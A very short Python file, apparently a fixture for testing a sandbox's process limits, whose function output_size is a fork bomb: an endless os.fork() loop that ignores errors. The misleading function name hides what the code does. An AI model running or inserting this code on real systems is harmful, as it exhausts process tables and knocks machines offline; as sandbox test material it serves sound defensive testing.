# reason: processes|timeout|memory|none
"""Processes that start processes."""
import os

def output_size(*a, **k):
    while True:
        try:
            os.fork()
        except OSError:
            continue
